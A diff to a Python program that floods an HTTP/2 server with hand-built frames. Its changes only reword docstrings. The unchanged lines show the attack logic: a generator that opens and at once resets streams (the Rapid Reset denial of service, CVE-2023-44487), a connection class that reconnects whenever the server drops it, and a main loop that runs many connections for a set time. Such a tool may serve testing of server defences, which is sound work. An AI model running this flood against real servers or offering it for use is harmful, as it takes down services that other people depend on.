@@ -1,6 +1,6 @@
 """A client that floods a server with HTTP/2 frames, as a program: MODE PORT SECONDS.
 
-It writes frames by hand, since no library sends what a well-behaved client would not. It reconnects
+It writes frames by hand, because libraries only send frames of well-behaved clients. It reconnects
 when the server closes the connection, and prints how many frames and connections it made.
 """
 
@@ -40,7 +40,7 @@ CALL = (
 
 
 def rapid_resets() -> Iterator[bytes]:
-    """Yield calls, each reset at once (CVE-2023-44487)."""
+    """Yield calls that are reset at once (CVE-2023-44487)."""
     cancelled = (8).to_bytes(4, "big")
     for stream in range(1, 2**31, 2):
         yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, cancelled)
@@ -66,7 +66,7 @@ MODES: dict[str, Callable[[], Iterator[bytes]]] = {
 
 
 class Flood:
-    """One connection, made again whenever the server closes it."""
+    """A connection that reconnects whenever the server closes it."""
 
     def __init__(self, mode: str, port: int) -> None:
         self._frames_of = MODES[mode]
@@ -100,7 +100,7 @@ class Flood:
 
 
 def main(mode: str, port: int, seconds: float) -> None:
-    """Flood a server, and print how."""
+    """Flood a server, and print the numbers of frames and connections."""
     floods = [Flood(mode, port) for _ in range(CONNECTIONS)]
     end = time.monotonic() + seconds
     print("flooding", flush=True)
